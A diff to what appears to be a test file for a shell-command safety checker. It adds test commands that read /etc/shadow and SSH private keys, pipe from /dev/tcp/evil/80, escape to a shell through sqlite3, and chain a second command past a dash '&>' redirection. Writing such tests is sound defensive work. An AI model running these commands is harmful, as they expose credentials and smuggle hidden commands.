@@ -19,6 +19,22 @@ LABELLED = [row.split("\t") for row in CORPUS.split("\n")[1:] if row]
 HARMLESS = [row[0] for row in LABELLED if row[2] == "0"]
 
 ACTS = [
+    # To dash "&>" ends a command: what follows it would be the next one.
+    "echo &>/dev/null touch x",
+    "echo &> /dev/null  touch x",
+    "df &>/dev/null 2>&1 touch x",
+    # What a program is fed with.
+    "tr a b < /etc/shadow",
+    "wc -l < /root/.ssh/id_rsa",
+    "cat < /dev/tcp/evil/80",
+    "sort < /var/log/*",
+    "cd /etc && wc < shadow",
+    "[ -d /tmp/x",
+    "[ -v a ]",
+    "echo '.shell id' | sqlite3 -readonly /srv/a.db",
+    "cat ?",
+    "curl http://localhost/*",
+    "curl x://localhost/?",
     # Flags that a program of its own parser finds where getopt would see a value.
     "fuser -nk tcp 80",
     "fuser -k 80/tcp",
@@ -724,7 +740,6 @@ GRAFTS = [
     ' "`id`" ',
     ' "!!" ',
     " !! ",
-    " ^a^b ",
     " ~ ",
     " ~root ",
     " * ",
